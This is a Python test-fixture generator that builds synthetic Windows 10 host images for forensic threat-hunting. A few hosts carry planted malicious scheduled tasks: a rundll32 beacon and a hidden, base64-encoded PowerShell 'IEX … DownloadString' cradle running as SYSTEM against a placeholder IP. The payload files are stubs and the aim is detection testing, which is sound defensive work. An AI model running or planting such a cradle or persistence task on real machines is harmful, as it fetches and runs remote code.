"""A generated fleet of small Windows 10 machines for ``triage hunt`` (stacking across hosts).

``python3 -m test_images.fleet --out DIR --hosts 50`` or ``build_fleet(out_dir, hosts)``.

Every host is the plain directory form (the fastest form dissect opens: no container to decode) of
a stock Windows 10 machine built from :mod:`test_images.windows_tree`: the 24 real stock task files,
the SOFTWARE and NTUSER.DAT hives, and its own SYSTEM hive (the hostname lives there, so each host
gets one: a hivex run costs ~30 ms). The WS-FIN-042 attack scenario is *not* planted: on a fleet,
what matters is what only a few hosts have. Planted on top, by host number (1-based):

* every host: :data:`COMMON_TASK`, a benign inventory agent (the common stack);
* hosts :data:`BEACON_HOSTS`: :data:`BEACON_TASK`, a rundll32 beacon from C:\\Users\\Public (rare, malicious);
* hosts :data:`CRADLE_HOSTS`: :data:`CRADLE_TASK`, encoded PowerShell download cradle as SYSTEM (rare, malicious);
* host :data:`UNIQUE_HOST`: :data:`UNIQUE_TASK`, a benign printer-mapping task only it has (rare, benign).

Host numbers are spread through the fleet so that no batch order groups them. Deterministic: the
same arguments give the same bytes (file times come from the planted data, never from the clock).
"""

from __future__ import annotations

import argparse
import base64
import shutil
import sys
import time
from dataclasses import dataclass, replace
from datetime import datetime
from pathlib import Path

from test_images.build import build_hive, check_tools, write_tree
from test_images.taskxml import render
from test_images.windows_tree import (
    HOSTNAME, FileTimes, PlantedFile, PlantedTask, _stub, exec_action, planted_hives, principal, registration_info,
    schtasks_settings, stock_tasks, task_element, utc, el, ENABLED, local_text,
)

COMMON_TASK = r"\Contoso\InventoryAgent"
COMMON_COMMAND = r"C:\Program Files\Contoso\Inventory\invagent.exe"
BEACON_TASK = r"\Microsoft\Windows\Maintenance\CompatTelRunnerSync"
BEACON_DLL = r"C:\Users\Public\Libraries\msedge_elf.dll"
CRADLE_TASK = r"\GoogleUpdateTaskMachineQA"
UNIQUE_TASK = r"\Contoso\PrinterMapping"
BEACON_HOSTS = (7, 23, 41)
CRADLE_HOSTS = (12, 38)
UNIQUE_HOST = 30
MIN_HOSTS = max(*BEACON_HOSTS, *CRADLE_HOSTS, UNIQUE_HOST)
CRADLE = ("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')")
ENCODED_CRADLE = base64.b64encode(CRADLE.encode("utf-16-le")).decode("ascii")


def host_name(number: int) -> str:
    return f"WS-{number:03d}"


def _task(name: str, created: datetime, trigger, command: str, arguments: str | None, user: str,
          run_level: str = "LeastPrivilege", logon_type: str | None = "InteractiveToken") -> PlantedTask:
    element = task_element(registration_info(name, local_text(created), user),
                           (trigger,), schtasks_settings(), (exec_action(command, arguments),),
                           principal(user, run_level=run_level, logon_type=logon_type))
    return PlantedTask(name=name, data=render(element), times=FileTimes.at(created), origin="scenario",
                       purpose="fleet", task=element)


def _daily(start: datetime):
    return el("CalendarTrigger", el("StartBoundary", local_text(start)), ENABLED,
              el("ScheduleByDay", el("DaysInterval", "1")))


def fleet_tasks(number: int) -> list[PlantedTask]:
    """The non-stock tasks host ``number`` carries."""
    tasks = [_task(COMMON_TASK, utc(2023, 11, 20, 9, 0, 5), _daily(utc(2023, 11, 20, 12, 0)), COMMON_COMMAND,
                   "--report --quiet", "S-1-5-18", logon_type=None)]
    if number in BEACON_HOSTS:
        tasks.append(_task(BEACON_TASK, utc(2024, 3, 12, 14, 4, number),
                           el("LogonTrigger", el("StartBoundary", local_text(utc(2024, 3, 12, 14, 3))), ENABLED),
                           "rundll32.exe", f"{BEACON_DLL},StartW", rf"{host_name(number)}\jsmith"))
    if number in CRADLE_HOSTS:
        tasks.append(_task(CRADLE_TASK, utc(2024, 3, 13, 1, 17, number), el("BootTrigger", ENABLED),
                           "powershell.exe", f"-NoP -W Hidden -Enc {ENCODED_CRADLE}", "S-1-5-18",
                           run_level="HighestAvailable", logon_type=None))
    if number == UNIQUE_HOST:
        tasks.append(_task(UNIQUE_TASK, utc(2024, 1, 9, 10, 30, 0), _daily(utc(2024, 1, 9, 11, 0)),
                           r"C:\Program Files\Contoso\PrintMap\printmap.exe", "/sync", "S-1-5-18", logon_type=None))
    return tasks


@dataclass(frozen=True)
class FleetHost:
    number: int
    hostname: str
    path: Path  # the evidence item (directory tree)
    tasks: tuple[str, ...]  # non-stock task paths planted on it


def _host_hive(hive, hostname: str):
    """The SYSTEM hive with every value that names the builder's host renamed to ``hostname``."""
    old = (HOSTNAME + "\0").encode("utf-16-le")
    new = (hostname + "\0").encode("utf-16-le")
    keys = tuple(replace(key, values=tuple(replace(v, data=new) if v.data == old else v for v in key.values))
                 for key in hive.keys)
    return replace(hive, keys=keys)


def build_fleet(out_dir: Path, hosts: int = 50) -> list[FleetHost]:
    """Write ``hosts`` machines to ``out_dir/<hostname>`` and return them in host order."""
    if hosts < MIN_HOSTS:
        raise ValueError(f"a fleet needs at least {MIN_HOSTS} hosts to hold every planted task")
    check_tools()
    out_dir = Path(out_dir).resolve()
    work = out_dir / "work"
    shutil.rmtree(work, ignore_errors=True)
    work.mkdir(parents=True)
    stock = stock_tasks()
    hives = {h.path.rsplit("/", 1)[-1]: h for h in planted_hives(stock)}
    shared = [PlantedFile(h.path, build_hive(h, work), h.times) for name, h in hives.items() if name != "SYSTEM"]
    payloads = [PlantedFile("Users/Public/Libraries/msedge_elf.dll", _stub(b"MZ", "beacon"),
                            FileTimes.at(utc(2024, 3, 12, 14, 2, 51))),
                PlantedFile("Program Files/Contoso/Inventory/invagent.exe", _stub(b"MZ", "invagent"),
                            FileTimes.at(utc(2023, 11, 20, 8, 59, 40))),
                PlantedFile("Program Files/Contoso/PrintMap/printmap.exe", _stub(b"MZ", "printmap"),
                            FileTimes.at(utc(2024, 1, 9, 10, 29, 2)))]
    carried = {"msedge_elf.dll": BEACON_HOSTS, "printmap.exe": (UNIQUE_HOST,)}
    fleet = []
    for number in range(1, hosts + 1):
        name = host_name(number)
        tasks = stock + fleet_tasks(number)
        system = _host_hive(hives["SYSTEM"], name)
        files = [PlantedFile(t.file_path, t.data, t.times) for t in tasks] + shared + [
            PlantedFile(system.path, build_hive(system, work), system.times)]
        files += [p for p in payloads if number in carried.get(p.path.rsplit("/", 1)[-1], (number,))]
        root = out_dir / name
        shutil.rmtree(root, ignore_errors=True)
        write_tree(root, sorted(files, key=lambda f: f.path.lower()))
        fleet.append(FleetHost(number, name, root, tuple(t.name for t in tasks if t.origin == "scenario")))
    shutil.rmtree(work)
    return fleet


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python3 -m test_images.fleet", description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, required=True, help="output directory (one folder per host)")
    parser.add_argument("--hosts", type=int, default=50, help=f"number of hosts (at least {MIN_HOSTS})")
    args = parser.parse_args(argv)
    started = time.monotonic()
    fleet = build_fleet(args.out, args.hosts)
    print(f"{len(fleet)} hosts in {args.out} built in {time.monotonic() - started:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
